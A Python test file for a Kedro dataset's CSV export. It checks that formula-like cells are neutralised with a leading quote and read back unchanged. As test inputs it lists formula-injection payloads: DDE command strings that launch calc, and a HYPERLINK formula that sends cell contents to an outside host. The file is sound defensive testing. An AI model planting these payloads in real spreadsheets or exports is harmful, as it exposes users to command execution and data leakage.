"""Exported CSV: nothing in it is run by a spreadsheet, and we read it back as it was."""

from __future__ import annotations

import csv
import math
import time
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tpige_kedro.datasets import TableDataset
from tpige_kedro.datasets.table_files.spreadsheet import defused, read_csv, restored, to_csv

SIGNS = "=+-@＝＋－＠"
FORMULAS = [
    *(f"{before}{sign}1+1" for sign in SIGNS for before in ("", " ", '"', "'", "\t", "\n", "\u00a0", "\ufeff", "\u200b", ",", ";", " ; '\"")),
    "=cmd|'/c calc'!A0", '=HYPERLINK("http://x/?"&A1,"click")', "@SUM(1+1)*cmd|'/c calc'!A0", "+thissheet", "-2+3+cmd|' /C calc'!A0", "\tx", "\rx", "\nx",
]  # fmt: skip
PLAIN = [
    "A man, 7.",
    "'quoted'",
    "''",
    "a=b",
    "1-1",
    "s@x",
    "",
    " ",
    "007",
    "x, -5",
    "well - known",
    "“=”",
    "…",
]
risky = st.text(alphabet=st.sampled_from("=+-@＝'\"`;,|\t\r\n \ufeff\u200ba0"), max_size=12)


def runs(text: str) -> bool:
    """Whether a spreadsheet may take a cell for a formula: by its first character that is neither space nor quote."""
    return text[:1] in {"\t", "\r", "\n"} or text.lstrip(' \t\r\n\u00a0\ufeff\u200b",;|')[
        :1
    ] in set(SIGNS)


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_a_formula_is_text_and_comes_back(text: str) -> None:
    assert defused(text).startswith("'") and not runs(defused(text))
    assert restored(defused(text)) == text


@pytest.mark.parametrize("text", PLAIN)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert defused(text) == restored(text) == text


@pytest.mark.parametrize("separator", [";", "\t", "\n", "\r\n", "\r"])
@pytest.mark.parametrize("sign", SIGNS)
def test_what_another_locale_would_split_off_is_no_formula_either(
    separator: str, sign: str
) -> None:
    text = f'A man{separator}{sign}1+1{separator}"{sign}2"{separator} x'
    assert not any(runs(cell) for cell in defused(text).split(separator))
    assert restored(defused(text)) == text


@given(st.one_of(risky, st.text(max_size=20)))
def test_any_text_comes_back(text: str) -> None:
    safe = defused(text)
    assert restored(safe) == text and not runs(safe)
    assert not any(runs(cell) for cell in safe.split(";")[1:] if cell[:1] not in {"\t", "\r", "\n"})


@settings(max_examples=40)
@given(st.lists(st.tuples(risky, risky, st.floats(allow_nan=False)), max_size=4), risky)
def test_any_table_comes_back(tmp_path_factory, rows, name) -> None:
    table = pd.DataFrame(rows, columns=["a", "b" + name, "n"]).astype({"n": float})
    file = tmp_path_factory.mktemp("csv") / "t.csv"
    file.write_bytes(to_csv(table))
    back = read_csv(file)
    assert back.columns.tolist() == table.columns.tolist()
    assert back.iloc[:, :2].to_numpy().tolist() == table.iloc[:, :2].to_numpy().tolist()
    assert [float(cell) for cell in back["n"]] == table["n"].tolist()


def test_the_twin_of_a_table_is_defused_and_its_numbers_are_numbers(tmp_path: Path) -> None:
    table = pd.DataFrame(
        {
            "item": ["=cmd|'/c calc'!A0", "007", "'x"],
            "score": [-0.5, math.nan, 1e-300],
            "n": [-1, 0, 7],
            "reason": [None, "@x", "läuft"],
            "=evil": ["a", "b", "c"],
        }
    )
    TableDataset(filepath=str(tmp_path / "t.parquet"), csv=True).save(table)
    with (tmp_path / "t.csv").open(newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    assert rows[0] == ["item", "score", "n", "reason", "'=evil"]
    assert rows[1] == ["'=cmd|'/c calc'!A0", "-0.5", "-1", "", "a"]
    assert rows[2][3] == "'@x" and rows[3] == ["'x", "1e-300", "7", "läuft", "c"]
    pd.testing.assert_frame_equal(TableDataset(filepath=str(tmp_path / "t.parquet")).load(), table)
    back = read_csv(tmp_path / "t.csv")
    assert back["item"].tolist() == table["item"].tolist() and "=evil" in back


def test_a_table_without_formulas_is_written_as_before() -> None:
    table = pd.DataFrame(
        {"a": ["x", None, 'say "hi", \n there'], "n": [0.1, -2, math.nan], "b": [True, False, True]}
    )
    assert to_csv(table) == table.to_csv(index=False).encode()
    assert to_csv(table.iloc[:0]) == table.iloc[:0].to_csv(index=False).encode()


@pytest.mark.parametrize("text", [";" * 10**5, "\t" * 10**5 + "=", "=;" * 10**5, "'" * 10**5])
def test_long_texts_take_no_time(text: str) -> None:
    started = time.process_time()
    assert restored(defused(text)) == text
    assert time.process_time() - started < 5
